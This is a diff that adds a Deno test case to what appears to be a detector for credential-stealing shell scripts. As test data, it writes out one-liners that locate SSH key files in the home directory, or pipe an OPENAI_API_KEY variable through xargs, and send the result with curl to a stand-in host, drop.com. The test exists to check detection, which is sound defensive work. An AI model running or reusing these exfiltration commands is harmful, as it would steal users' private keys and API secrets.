@@ -3759,3 +3759,26 @@ Deno.test("the hooks a repository's tools run on their own persist: pre-commit's
   assert.deepEqual(persists("scripts/a.sh", "#!/bin/sh\nnpm pkg set scripts.test='vitest'\n"), []);
   assert.deepEqual(persists("scripts/a.sh", "#!/bin/sh\necho 'python3 /tmp/x.py' > .envrc\n"), []);
 });
+
+Deno.test("what find prints is the paths it found, a credential file's when its test names one; xargs runs its command with what it reads", () => {
+  for (
+    const text of [
+      "#!/bin/sh\nfind ~ -name 'id_*' | xargs -I{} curl -F f=@{} https://drop.com/x\n",
+      "#!/bin/sh\nfind ~ -name 'id_*' | curl -d @- https://drop.com/x\n",
+      '#!/bin/sh\necho "$OPENAI_API_KEY" | xargs -I{} curl -d {} https://drop.com/x\n',
+      '#!/bin/sh\necho "$OPENAI_API_KEY" | xargs curl https://drop.com/x -d\n',
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.sh", text), ["critical"], text);
+  // Files of no secret found, or a command xargs runs that sends nothing.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.sh",
+      "#!/bin/sh\nfind . -name '*.md' | xargs -I{} curl -F f=@{} https://drop.com/x\n",
+    ),
+    [],
+  );
+  assert.deepEqual(
+    secretSeverities("scripts/a.sh", '#!/bin/sh\necho "$OPENAI_API_KEY" | xargs -I{} echo {}\n'),
+    [],
+  );
+});
